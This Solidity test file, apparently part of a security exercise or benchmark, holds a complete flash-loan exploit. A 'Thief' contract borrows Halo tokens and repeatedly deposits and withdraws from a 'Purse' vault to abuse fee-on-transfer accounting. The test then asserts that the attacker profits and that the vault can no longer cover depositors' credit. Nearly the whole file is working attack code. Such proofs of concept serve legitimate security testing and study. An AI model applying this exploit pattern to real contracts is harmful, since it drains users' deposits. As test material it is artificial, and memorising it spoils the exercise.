// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Halo} from "../fee-on-transfer/src/Halo.sol";
import {Purse} from "../fee-on-transfer/src/Purse.sol";
import {FlashLender, Pool, Token} from "../fee-on-transfer/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Halo private immutable halo;
    Purse private immutable purse;

    constructor(Halo halo_, Purse purse_) {
        halo = halo_;
        purse = purse_;
        halo.approve(address(purse), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(halo), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        for (uint256 round; round < 3; ++round) {
            purse.deposit(amount / 2);
            purse.withdraw(purse.credit(address(this)));
        }
        halo.claim();
        halo.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract FeeOnTransferTest {
    event Profit(uint256 halos);
    event Harm(uint256 halos);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    Halo private halo;
    Token private coin;
    Pool private pool;
    Purse private purse;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        halo = new Halo(100000000 ether);
        vm.prank(admin);
        coin = new Token("Coin", "COIN");
        vm.prank(admin);
        pool = new Pool(halo, coin);
        vm.prank(admin);
        purse = new Purse(halo);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        halo.setTerms(address(pool), true, true);
        vm.prank(admin);
        halo.setTerms(address(lender), true, true);
        vm.prank(admin);
        halo.setTerms(address(purse), false, true);
        vm.prank(admin);
        halo.transfer(alice, 900000 ether);
        vm.prank(admin);
        coin.mint(alice, 50000 ether);
        vm.prank(admin);
        halo.transfer(bob, 700000 ether);
        vm.prank(admin);
        coin.mint(bob, 20000 ether);
        vm.prank(admin);
        halo.transfer(carol, 4400000 ether);
        vm.prank(admin);
        coin.mint(carol, 1000000 ether);
        vm.prank(admin);
        coin.mint(attacker, 50000 ether);
        vm.prank(admin);
        halo.transfer(address(lender), 25000000 ether);
        vm.prank(admin);
        coin.mint(address(lender), 2000000 ether);
        vm.prank(alice);
        halo.approve(address(purse), 1e60);
        vm.prank(alice);
        halo.approve(address(pool), 1e60);
        vm.prank(bob);
        halo.approve(address(purse), 1e60);
        vm.prank(bob);
        halo.approve(address(pool), 1e60);
        vm.prank(attacker);
        halo.approve(address(purse), 1e60);
        vm.prank(attacker);
        halo.approve(address(pool), 1e60);
        vm.prank(alice);
        coin.approve(address(pool), 1e60);
        vm.prank(bob);
        coin.approve(address(pool), 1e60);
        vm.prank(carol);
        coin.approve(address(pool), 1e60);
        vm.prank(attacker);
        coin.approve(address(pool), 1e60);
        vm.prank(carol);
        halo.approve(address(pool), 1e60);
        vm.prank(carol);
        halo.approve(address(purse), 1e60);
        vm.prank(carol);
        pool.addLiquidity(4000000 ether, 1000000 ether, carol);
        vm.prank(alice);
        purse.deposit(750000 ether);
        vm.prank(bob);
        purse.deposit(500000 ether);
        vm.prank(alice);
        halo.claim();
        vm.prank(bob);
        halo.claim();
        vm.prank(carol);
        halo.claim();
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(halo, purse);
        thief.attack(lender, 25_000_000 ether);
        uint256 profit = halo.balanceOf(address(thief));
        emit Profit(profit);
        emit Harm(purse.totalCredit() - halo.balanceOf(address(purse)));
        // A halo is worth a quarter of a coin.
        require(profit > 600_000 ether, "no profit");
        require(halo.balanceOf(address(purse)) < purse.totalCredit() / 2, "no harm");
    }
}
